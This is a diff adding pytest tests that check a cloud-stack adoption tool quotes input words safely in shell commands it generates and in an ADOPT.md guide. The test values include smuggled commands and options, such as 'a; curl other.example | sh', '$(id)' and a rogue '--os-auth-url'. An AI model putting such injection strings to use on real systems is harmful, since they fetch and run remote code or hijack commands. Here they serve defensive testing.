@@ -5,6 +5,7 @@ from __future__ import annotations
 import copy
 import json
 import pathlib
+import shlex
 from typing import Any
 
 import pytest
@@ -13,6 +14,7 @@ import transpile
 from tests.conftest import Run
 from transpile.adoption import client, export
 from transpile.adoption.lookups import Answers, CloudLookup, NoAnswer
+from transpile.adoption.shell import quote_word
 from transpile.model.source import Source
 
 GOLDEN = pathlib.Path(__file__).parents[2] / "golden" / "adopt"
@@ -53,6 +55,43 @@ def errors(text: str) -> list[tuple[str, int, str]]:
     assert bool(rows) is not done.ok
     assert not (rows and done.files)
     return [(row["code"], row.get("line", 0), row["message"]) for row in rows]
+
+
+OPTION = "--os-auth-url=http://other.example/v3"
+
+
+@pytest.mark.parametrize("key", ["id", "name", "parent"])
+def test_a_stack_whose_name_or_id_would_be_an_option_is_refused(key: str) -> None:
+    document = changed("name", "web") | {key: OPTION}
+    assert errors(json.dumps(document)) == [
+        ("HOT711", 1, f"No stack has this {key}: Heat gives none with such characters.")
+    ]
+
+
+@pytest.mark.parametrize("word", [OPTION, "a; curl other.example | sh", "$(id)", "plain"])
+@pytest.mark.parametrize(
+    "question",
+    [
+        ("server", "id"),
+        ("port", "name"),
+        ("port", "fixed_ips.ip_address"),
+        ("security group rule", "security_group_id"),
+        ("recordset", "zone_id"),
+    ],
+)
+def test_a_word_of_the_input_is_one_argument_of_a_command_and_no_option(word: str, question: tuple[str, str]) -> None:
+    kind, key = question
+    words = shlex.split(CloudLookup(kind, ((key, word),)).command)
+    at = next(i for i, each in enumerate(words) if word in each)
+    assert words[at] in (word, f"--name={word}", f"ip-address={word}")
+    assert not words[at].startswith(OPTION) or "--" in words[:at]
+    assert not any(each.startswith("-") for each in shlex.split(quote_word(word))) or quote_word(word).startswith("-- ")
+
+
+def test_a_physical_id_is_quoted_in_the_guide() -> None:
+    document = changed("resources.net.resource_id", "a; curl other.example | sh")
+    done = transpile.adopt(json.dumps(document))
+    assert "show a; curl" not in str(done.files.get("ADOPT.md", ""))
 
 
 def printed(document: dict[str, Any]) -> str:
